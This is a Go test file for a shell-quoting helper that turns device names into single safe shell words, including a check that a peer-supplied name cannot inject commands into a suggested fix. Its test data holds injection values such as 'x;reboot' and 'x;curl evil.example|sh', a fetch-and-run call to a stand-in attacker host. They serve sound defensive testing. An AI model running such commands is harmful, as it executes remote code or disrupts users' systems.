package doctor

import (
	"context"
	"os/exec"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// TestWord holds that a shell takes any name as one word, and does nothing else with it.
func TestWord(t *testing.T) {
	for in, want := range map[string]string{"laptop": "laptop", "Büro-2.kith": "Büro-2.kith", "anna's laptop": `'anna'\''s laptop'`, "x;reboot": "'x;reboot'", "": "''", "-x": "-- -x", "--all now": "-- '--all now'"} {
		if got := Word(in); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("there is no shell")
	}
	signs := rapid.StringOf(rapid.SampledFrom([]rune("aß7 '\"\\$`&;|<>()*?#~!{}[]=%^-")))
	rapid.Check(t, func(rt *rapid.T) {
		in := signs.Draw(rt, "name")
		flagged := strings.HasPrefix(in, "-")
		script := `test "$1" != -- || { dashes=1; shift; }; printf '<%s>' "$dashes$1"; test $# = 1`
		out, err := exec.CommandContext(t.Context(), sh, "-c", "f() { "+script+"; }; f "+Word(in)).Output()
		want := "<" + in + ">"
		if flagged {
			want = "<1" + in + ">"
		}
		if err != nil || string(out) != want {
			rt.Fatalf("%q became %q: %v", in, out, err)
		}
	})
}

// TestNamesInCommands holds that a name that another device has given itself does nothing
// in a command that a fix names.
func TestNamesInCommands(t *testing.T) {
	const name = "x;curl evil.example|sh"
	a := checkKnown(context.Background(), &Env{Peers: []Peer{{Name: name, Blocked: true, Finished: true}}}, name)
	if !strings.Contains(a.Fix, "kith unblock 'x;curl evil.example|sh'.") {
		t.Errorf("%q", a.Fix)
	}
}
